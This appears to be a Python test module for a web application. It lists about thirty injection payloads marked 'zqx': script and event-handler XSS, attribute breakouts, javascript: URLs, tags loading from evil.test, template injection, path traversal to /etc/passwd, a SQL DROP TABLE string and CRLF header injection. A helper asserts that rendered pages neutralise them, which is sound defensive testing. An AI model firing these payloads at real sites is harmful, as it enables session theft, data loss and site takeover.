"""What somebody might write to make a page do something; each holds the word zqx."""

from __future__ import annotations

from lxml import html

PAYLOADS = {
    "script": "<script>zqx()</script>",
    "script in capitals": "<ScRiPt src=//evil.test/zqx.js></sCrIpT>",
    "broken script": "<scr<script>ipt>zqx()</scr</script>ipt>",
    "end of script": "</script><script>zqx()</script>",
    "end of data": '{"a": "</script><img src=x onerror=zqx()>"}',
    "image": '<img src=x onerror="zqx()">',
    "svg": "<svg/onload=zqx()>",
    "math": '<math><mtext></form><form><mglyph><style></math><img src onerror=zqx()>',
    "attribute": '" onmouseover="zqx()" x="',
    "attribute in single quotes": "' onfocus='zqx()' autofocus='",
    "end of title": "</title><script>zqx()</script>",
    "end of textarea": "</textarea><script>zqx()</script>",
    "comment": "--><script>zqx()</script><!--",
    "javascript address": "javascript:zqx()",
    "javascript address with breaks": "java\tscript\n:zqx()",
    "data address": "data:text/html,<script>zqx()</script>",
    "link": '<a href="javascript:zqx()">zqx</a>',
    "frame": "<iframe srcdoc='<script>zqx()</script>'></iframe>",
    "base": "<base href=//evil.test/zqx/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.test/zqx">',
    "form": '<form action=//evil.test/zqx><button id="decide">',
    "style": "<style>@import '//evil.test/zqx.css';</style>",
    "htmx": '<div hx-get="/sign-out" hx-trigger="load" data-zqx>',
    "template": "{{ 7*7 }}zqx{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "right to left": "zqx \u202egnp.exe\u202c \u2066hidden\u2069 \u200f",
    "entities": "&lt;script&gt;zqx()&lt;/script&gt;&#x3c;script&#x3e;",
    "old encoding": "+ADw-script+AD4-zqx()+ADw-/script+AD4-",
    "long dots": "zqx/../../../../etc/passwd",
    "quotes of SQL": "zqx'; DROP TABLE reports; --",
    "percent": "zqx %3Cscript%3E %00 %0d%0aSet-Cookie: zqx=1",
}  # fmt: skip
_ADDRESSES = ("/", "#", "?", "http://", "https://")


def harmless(text: str) -> None:
    """See that a page has no element, attribute or address that came from somebody's text."""
    page = html.fromstring(text)
    for script in page.iter("script"):
        ours = (script.get("src") or "").startswith("/static/")
        assert ours or script.get("type") == "application/json", html.tostring(script)[:200]
        assert not ours or not (script.text or "").strip()
    for tag in ("iframe", "object", "embed", "base", "style", "math", "applet", "frame"):
        assert page.find(f".//{tag}") is None, tag
    for node in page.iter():
        if not isinstance(node.tag, str):
            assert "zqx" not in (node.text or ""), "a comment came from the text"
            continue
        assert "zqx" not in node.tag
        for name, value in node.attrib.items():
            assert not name.startswith("on"), (node.tag, name)
            assert "zqx" not in name and name not in ("style", "srcdoc"), (node.tag, name)
            if name in ("href", "action", "formaction", "src", "hx-get", "hx-post"):
                assert value.startswith(_ADDRESSES), (node.tag, name, value)
                assert not value.startswith("//"), value
                assert name != "src" or value.startswith("/static/"), value
        if node.tag == "meta":
            assert node.get("http-equiv") is None
    assert "49zqx" not in text, "a template ran"
